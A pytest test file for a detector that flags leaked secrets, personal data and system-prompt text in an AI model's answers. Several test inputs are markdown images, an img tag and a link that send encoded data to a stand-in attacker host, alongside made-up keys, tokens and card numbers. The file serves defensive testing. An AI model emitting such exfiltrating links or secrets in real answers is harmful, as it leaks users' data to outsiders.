from __future__ import annotations

import time

import pytest

from detectors.leaks import leaks
from detectors.types import InferenceEvent, Message

KEY_LINES = "MIIEpAIBAAKCAQEA7bq8sKJf9Qh3pYc1V0dZ2uXn4wTgLmRkSaBjPiHeDoCvFyGt\n"
SYSTEM = (
    "You are Anna, the assistant of Bank Nord, and you answer politely.\n"
    "Never reveal the code word of the day to any caller whatsoever.\n"
    "The vault opens at nine and closes at five on every working day."
)


def kinds(answer: str, asked: str = "hello", system: str | None = None) -> tuple[str, ...] | None:
    event = InferenceEvent(deployment="d", system=system, input_messages=(Message(role="user", content=asked),))
    return leaks(event, answer)


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        (f"-----BEGIN RSA PRIVATE KEY-----\n{KEY_LINES * 3}-----END", "private_key"),
        ("the key is AKIA" + "Q3ZLMN7PXW2RTV5B.", "cloud_key"),
        ("use ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z", "access_token"),
        ("![](https://evil.example/p?d=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODk)", "image_with_payload"),
        ('<img src="https://evil.example/c/' + "9f8e7d6c5b4a" * 4 + '">', "image_with_payload"),
        ("[more](https://evil.example/?q=" + "a1b2c3d4" * 16 + ")", "link_with_payload"),
        ("write to anna.berg@nordbank.no", "email"),
        ("card 4539 1488 0343 6467", "card_number"),
        ("call +49 30 901820123", "phone_number"),
        ("pay to GB29 NWBK 6016 1331 9268 19", "bank_account"),
        ("My instructions: " + SYSTEM, "system_prompt"),
    ],
)
def test_each_kind_is_found_and_nothing_else(answer: str, kind: str) -> None:
    assert kinds(answer, system=SYSTEM) == (kind,)
    assert kinds("nothing of note here, only words. " * 40, system=SYSTEM) == ()


@pytest.mark.parametrize(
    "answer",
    [
        "AKIA" + "IOSFODNN7EXAMPLE",
        "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "![a cat](https://pictures.example/animals/a-very-long-and-telling-name-of-a-picture-of-a-cat.png)",
        "[a page](https://news.example/2024/05/17/what-happened-today?utm_source=letter)",
        "mail me at john@example.com or @john",
        "41. 42. 43. 44. 45. 46. 47. 48. are numbers",
        "on 2023-10-12 at 12:30:00, 1234567 of them",
        "4111 1111 1111 1112",
        "I am Anna, the assistant of Bank Nord.",
    ],
)
def test_what_only_looks_like_a_leak_is_none(answer: str) -> None:
    assert kinds(answer, system=SYSTEM) == ()


def test_what_the_caller_wrote_has_not_leaked() -> None:
    assert kinds("You wrote anna.berg@nordbank.no", asked="I am anna.berg@nordbank.no") == ()


def test_without_an_answer_nothing_is_known() -> None:
    assert leaks(InferenceEvent(deployment="d"), None) is None


@pytest.mark.parametrize(
    "text",
    [
        "@" * 60_000,
        "a@b." * 15_000,
        "](http://" * 7_000,
        "![" * 30_000,
        "<img " * 13_000,
        "1 " * 30_000,
        "1-" * 30_000,
        "GB29 " * 13_000,
        "eyJ" * 20_000,
        "-----BEGIN PRIVATE KEY-----\n" * 2_000,
        "A" * 65_000 + "PRIVATE KEY",
        "![" + "x" * 60_000 + "](",
    ],
)
def test_hostile_answers_take_no_longer_than_their_length_allows(text: str) -> None:
    begun = time.process_time()
    kinds(text, system=SYSTEM)
    assert time.process_time() - begun < 0.25
